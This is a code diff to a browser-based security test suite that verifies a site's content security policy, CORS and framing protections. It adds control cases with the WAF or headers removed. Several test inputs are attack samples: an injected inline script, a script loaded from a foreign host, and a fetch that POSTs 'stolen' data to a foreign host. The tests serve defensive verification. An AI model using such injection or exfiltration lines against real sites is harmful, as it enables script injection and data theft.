@@ -1,6 +1,6 @@
 import { deepEqual, equal, match } from "node:assert/strict";
 import { describeWithBrowser } from "./describe-with-browser";
-import { foreignHost, useCloud } from "./use-cloud";
+import { foreignHost, useCloud, type CloudInUse } from "./use-cloud";
 
 const api = "https://api.dev.example.com/me";
 const readsIt = (headers: string) =>
@@ -48,34 +48,52 @@ for (const [what, use] of Object.entries(stacks)) {
   });
 }
 
+describeWithBrowser("somebody else's page in a browser, before an API that lets every origin read", () => {
+  const there = useCloud(
+    { stack: "dev" },
+    {
+      change: (stack) =>
+        stack.without("wafv2/webAclAssociation:WebAclAssociation").with("apigateway/response:Response", {
+          responseParameters: { "gatewayresponse.header.Access-Control-Allow-Origin": "'*'" },
+        }),
+    },
+  );
+
+  it("reads the answer, so that it is the stack that keeps it from that", async () => {
+    const page = await there.open(`https://${foreignHost}/`);
+    equal(await page.evaluate(readsIt("{}")), "read: 401");
+    await page.close();
+  });
+});
+
+/** Does something in the site's page; tells what its policy stopped, and whether a script has run. */
+async function violated(there: CloudInUse, action: string): Promise<unknown> {
+  const page = await there.open("https://www.dev.example.com/");
+  const directive = await page.evaluate(`new Promise((resolve) => {
+    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective));
+    setTimeout(() => resolve("nothing"), 2000);
+    ${action}
+  })`);
+  const ran = await page.evaluate("window.injected ?? false");
+  await page.close();
+  return { directive, ran };
+}
+
+const inject =
+  'document.body.append(Object.assign(document.createElement("script"), { text: "window.injected = true" }))';
+const send = `fetch("https://${foreignHost}/", { method: "POST", body: "stolen" }).catch(() => 0)`;
+
 describeWithBrowser("the site in a browser, attacked", () => {
   const there = useCloud({ stack: "dev" });
 
-  /** Does something in the site's page, and tells what its policy stopped. */
-  async function violated(action: string): Promise<unknown> {
-    const page = await there.open("https://www.dev.example.com/");
-    const directive = await page.evaluate(`new Promise((resolve) => {
-      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective));
-      setTimeout(() => resolve("nothing"), 2000);
-      ${action}
-    })`);
-    const ran = await page.evaluate("window.injected ?? false");
-    await page.close();
-    return { directive, ran };
-  }
-
   it("runs no script that was injected into its page", async () => {
-    deepEqual(
-      await violated(
-        'document.body.append(Object.assign(document.createElement("script"), { text: "window.injected = true" }))',
-      ),
-      { directive: "script-src-elem", ran: false },
-    );
+    deepEqual(await violated(there, inject), { directive: "script-src-elem", ran: false });
   });
 
   it("loads no script from elsewhere", async () => {
     deepEqual(
       await violated(
+        there,
         `document.body.append(Object.assign(document.createElement("script"), { src: "https://${foreignHost}/x.js" }))`,
       ),
       { directive: "script-src-elem", ran: false },
@@ -84,13 +102,10 @@ describeWithBrowser("the site in a browser, attacked", () => {
   });
 
   it("sends nothing elsewhere", async () => {
-    deepEqual(
-      await violated(`fetch("https://${foreignHost}/", { method: "POST", body: "stolen" }).catch(() => 0)`),
-      {
-        directive: "connect-src",
-        ran: false,
-      },
-    );
+    deepEqual(await violated(there, send), {
+      directive: "connect-src",
+      ran: false,
+    });
     deepEqual(there.foreignRequests, []);
   });
 
@@ -102,5 +117,18 @@ describeWithBrowser("the site in a browser, attacked", () => {
     );
     match((await refusal).text(), /frame-ancestors 'none'/);
     await page.close();
+  });
+});
+
+describeWithBrowser("the site in a browser, attacked without its headers", () => {
+  const there = useCloud(
+    { stack: "dev" },
+    { change: (stack) => stack.with("amplify/app:App", { customHeaders: undefined }) },
+  );
+
+  it("runs the script and sends the request, so that it is the policy that keeps it from that", async () => {
+    deepEqual(await violated(there, inject), { directive: "nothing", ran: true });
+    deepEqual(await violated(there, send), { directive: "nothing", ran: false });
+    deepEqual(there.foreignRequests, ["POST /"]);
   });
 });
